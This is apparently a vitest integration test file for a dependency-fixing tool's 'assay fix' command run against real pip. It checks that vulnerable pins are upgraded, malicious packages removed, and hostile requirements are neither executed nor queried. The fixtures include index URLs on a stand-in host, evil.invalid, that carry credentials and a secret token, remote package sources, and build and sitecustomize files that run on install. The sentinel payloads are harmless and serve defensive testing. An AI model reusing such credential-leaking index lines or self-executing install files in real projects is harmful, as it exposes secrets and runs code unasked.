/** `assay fix` with the real pip and a directory of wheels. */

import { execFile } from 'node:child_process';
import { chmodSync, readdirSync, rmSync } from 'node:fs';
import { promisify } from 'node:util';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';

import { CommandFolder, type Outcome } from '../support/command-folder.ts';
import { ownTemporaryFiles, type FixDocument } from '../support/fix-document.ts';
import { missingForInterop } from '../support/interop.ts';
import { needs } from '../support/tools.ts';
import { writeWheels } from '../support/wheels.ts';

const execute = promisify(execFile);
const missing = missingForInterop('python3', 'pip3');

describe.skipIf(missing !== undefined)(`assay fix and pip${needs(missing)}`, () => {
  let folder: CommandFolder;
  let sums: ReadonlyMap<string, string>;
  let left: () => readonly string[];

  beforeAll(async () => {
    folder = new CommandFolder();
    left = ownTemporaryFiles(folder.path('temporary'));
    const ecosystem = 'PyPI';
    await folder.load(
      { id: 'PYSEC-2025-1', name: 'vuln', fixed: '1.2.6', ecosystem },
      { id: 'PYSEC-2025-2', name: 'hostile', fixed: '2.0', ecosystem },
      { id: 'MAL-2025-1', name: 'evil', fixed: '99', ecosystem },
    );
    // A backend of the project's own needs nothing of an index.
    folder.write(
      'evilproj/pyproject.toml',
      '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
    );
    folder.write(
      'evilproj/backend.py',
      `open(${JSON.stringify(folder.path('sentinel-url'))}, "w").close()\n`,
    );
    sums = writeWheels(folder.path('wheels'), [
      { name: 'vuln', version: '1.0' },
      { name: 'vuln', version: '1.2.6' },
      { name: 'vuln', version: '1.3' },
      { name: 'parent', version: '1.0', needs: ['vuln>=1.0'] },
      { name: 'stuck', version: '1.0', needs: ['vuln<1.1'] },
      { name: 'evil', version: '1.0' },
      { name: 'hostile', version: '1.0' },
      { name: 'hostile', version: '2.0', needs: [`evilproj @ file://${folder.path('evilproj')}`] },
    ]);
    folder.write(
      '.config/pip/pip.conf',
      `[global]\nno-index = true\nfind-links = ${folder.path('wheels')}\n`,
    );
  });
  afterAll(() => folder[Symbol.dispose]());
  beforeEach(() => {
    rmSync(folder.path('app'), { recursive: true, force: true });
    rmSync(folder.path('installed'), { recursive: true, force: true });
  });

  /** Installs the project and runs a program that prints the version of a module. */
  async function installed(name: string, file = 'app/requirements.txt'): Promise<string> {
    const env = { PATH: process.env['PATH'], HOME: folder.cwd };
    const target = folder.path('installed');
    const flags = [
      '--quiet',
      '--only-binary',
      ':all:',
      '--target',
      target,
      '-r',
      folder.path(file),
    ];
    await execute('python3', ['-m', 'pip', 'install', ...flags], { env, timeout: 240_000 });
    const program = `import ${name}; print(${name}.VERSION)`;
    const run = await execute('python3', ['-c', program], { env: { ...env, PYTHONPATH: target } });
    return run.stdout.trim();
  }
  const fix = (...args: readonly string[]): Promise<Outcome> =>
    folder.assay('fix', 'app', '--offline=false', '--skip-db-update', ...args);
  async function plan(...args: readonly string[]): Promise<FixDocument> {
    const { stdout, stderr } = await fix('-f', 'json', ...args);
    return JSON.parse(stdout === '' ? JSON.stringify({ stderr }) : stdout) as FixDocument;
  }
  const hash = (name: string): string => `sha256:${sums.get(name) ?? ''}`;

  it.each<[string, Record<string, string>, string, Record<string, string>]>([
    [
      'a pin with extras, marker and comment',
      {
        'requirements.txt':
          '# 1.0\r\nVuln[x] == 1.0 ; python_version > "1.0"  # 1.0\r\nparent==1.0\r\n',
      },
      'widen',
      {
        'requirements.txt':
          '# 1.0\r\nVuln[x] == 1.2.6 ; python_version > "1.0"  # 1.0\r\nparent==1.0\r\n',
      },
    ],
    [
      'a pin of an included file',
      {
        'requirements.txt': '-r requirements/base.txt\nparent==1.0\n',
        'requirements/base.txt': 'vuln==1.0',
      },
      'widen',
      {
        'requirements.txt': '-r requirements/base.txt\nparent==1.0\n',
        'requirements/base.txt': 'vuln==1.2.6',
      },
    ],
    [
      'a constraint',
      {
        'requirements.txt': '-c constraints.txt\nvuln\n',
        'constraints.txt': 'vuln==1.0\nother==2\n',
      },
      'override',
      {
        'requirements.txt': '-c constraints.txt\nvuln\n',
        'constraints.txt': 'vuln==1.2.6\nother==2\n',
      },
    ],
  ])(
    'fixes %s; it installs and runs, is scanned clean, and applying twice changes nothing',
    async (...[, files, kind, expected]) => {
      for (const [name, text] of Object.entries(files)) folder.write(`app/${name}`, text);
      const { projects } = await plan();
      expect(projects.map(({ state, steps }) => [state, steps.map((step) => step.kind)])).toEqual([
        ['tried', [kind]],
      ]);
      for (let round = 0; round < 2; round += 1) {
        const applied = await fix('--apply', '--fail-on', 'high+fixable');
        expect([applied.exitCode, applied.stderr]).toEqual([0, expect.any(String)]);
        for (const [name, text] of Object.entries(expected)) {
          expect(folder.read(`app/${name}`)).toBe(text);
        }
      }
      expect((await folder.assay('fs', 'app', '--fail-on', 'high')).exitCode).toBe(0);
      expect(await installed('vuln')).toBe('1.2.6');
      expect(left()).toEqual([]);
    },
  );

  it('replaces hashes in their layout', async () => {
    const text = (version: string): string =>
      `vuln==${version} \\\n    --hash=${hash(`vuln==${version}`)}\nparent==1.0 --hash=${hash('parent==1.0')}\n`;
    folder.write('app/requirements.txt', text('1.0'));
    const { exitCode, stderr } = await fix('--apply', '--fail-on', 'high');
    expect([exitCode, stderr]).toEqual([0, expect.any(String)]);
    expect(folder.read('app/requirements.txt')).toBe(text('1.2.6'));
    expect(await installed('vuln')).toBe('1.2.6');
  });

  it('removes a malicious package, and keeps it if another one requires it', async () => {
    folder.write('app/requirements.txt', 'evil==1.0\nvuln==1.3\n');
    expect((await fix('--apply', '--fail-on', 'critical')).exitCode).toBe(0);
    expect(folder.read('app/requirements.txt')).toBe('vuln==1.3\n');
  });

  it('names what binds a package, and the source of a compiled file that holds it', async () => {
    folder.write('app/requirements.txt', 'vuln==1.0\nstuck==1.0\n');
    const [bound] = (await plan()).projects;
    expect(bound?.steps).toEqual([]);
    expect(bound?.staying[0]?.reasons.join()).toContain('stuck 1.0 depends on vuln<1.1');
    folder.write('app/requirements.txt', 'vuln==1.0\n');
    folder.write('app/requirements.in', 'vuln<1.1\n');
    const [held] = (await plan()).projects;
    expect(held?.staying[0]?.reasons.join()).toContain('held at "<1.1" by "requirements.in"');
  });

  it('runs nothing of a hostile project, and asks no index of it', async () => {
    const touch = (name: string): string =>
      `open(${JSON.stringify(folder.path(`sentinel-${name}`))}, "w").close()\n`;
    folder.write(
      'app/proj/setup.py',
      `${touch('editable')}from setuptools import setup\nsetup(name="proj")\n`,
    );
    folder.write('app/pip.py', touch('module'));
    folder.write('app/sitecustomize.py', touch('site'));
    folder.write('app/pip.conf', '[global]\nindex-url = https://evil.invalid/simple\n');
    folder.write(
      'app/requirements.txt',
      [
        '--index-url https://user:secret@evil.invalid/simple',
        '--extra-index-url https://evil.invalid/${SECRET_TOKEN}',
        '--find-links https://evil.invalid/links',
        '--trusted-host evil.invalid',
        '--no-binary :all:',
        '-r pip.py',
        '-r sitecustomize.py',
        '-e ./proj',
        './proj',
        'proj @ file:./proj',
        'other @ https://evil.invalid/other.tar.gz',
        'git+https://evil.invalid/repo.git#egg=repo',
        'vuln==1.0 --config-settings="--build-option=x"',
        '',
      ].join('\n'),
    );
    folder.env['SECRET_TOKEN'] = 'secret';
    const { exitCode, stderr, stdout } = await fix(
      '--apply',
      '--fail-on',
      'high',
      '--id',
      'PYSEC-2025-1',
    );
    delete folder.env['SECRET_TOKEN'];
    expect([exitCode, stderr]).toEqual([expect.any(Number), expect.not.stringContaining('ERROR')]);
    expect(folder.read('app/requirements.txt')).toContain('vuln==1.2.6 --config-settings');
    for (const line of ['-e ./proj', '--index-url', '--find-links', '--no-binary']) {
      expect(stdout).toContain(`left out of the copy: ${line}`);
    }
    expect(stdout).not.toContain('secret@');
    expect(readdirSync(folder.cwd).filter((name) => name.startsWith('sentinel'))).toEqual([]);
    expect(left()).toEqual([]);
  });

  it('builds nothing for a wheel that depends on an address', async () => {
    folder.write('app/requirements.txt', 'hostile==1.0\n');
    const { projects } = await plan('--allow', 'major');
    expect(projects[0]?.steps).toEqual([]);
    expect(projects[0]?.staying[0]?.reasons.join()).toContain('lets pip start no program');
    expect(readdirSync(folder.cwd)).not.toContain('sentinel-url');
    // pip itself builds it.
    folder.write('app/requirements.txt', 'hostile==2.0\n');
    await installed('hostile').catch(() => '');
    expect(readdirSync(folder.cwd)).toContain('sentinel-url');
    rmSync(folder.path('sentinel-url'));
  });

  it.each<[string, () => void, readonly string[], string]>([
    [
      'requirements that contradict each other',
      () => void folder.write('app/requirements.txt', 'vuln==1.0\nparent==9\n'),
      [],
      'parent==9',
    ],
    [
      'a file that is not UTF-8',
      () => void folder.write('app/requirements.txt', Buffer.from('vuln==1.0\n# \xe9\n', 'latin1')),
      [],
      'is not UTF-8',
    ],
    [
      'a Python that is missing',
      () => void (folder.env['PATH'] = '/nonexistent'),
      [],
      'python3 is not installed',
    ],
    [
      'a Python that is killed',
      () => {
        folder.write('bin/python3', '#!/bin/sh\nkill -9 $$\n');
        chmodSync(folder.path('bin/python3'), 0o755);
        folder.env['PATH'] = `${folder.path('bin')}:${process.env['PATH'] ?? ''}`;
      },
      ['--apply'],
      'was ended by SIGKILL',
    ],
  ])('ends with 2 for %s, and leaves all bytes', async (...[, prepare, args, message]) => {
    folder.write('app/requirements.txt', 'vuln==1.0\n');
    prepare();
    const before = folder.read('app/requirements.txt');
    try {
      const { exitCode, stderr } = await fix(...args);
      expect([exitCode, stderr]).toEqual([2, expect.stringContaining(message)]);
      expect(folder.read('app/requirements.txt')).toBe(before);
      expect(left()).toEqual([]);
    } finally {
      delete folder.env['PATH'];
    }
  });
});
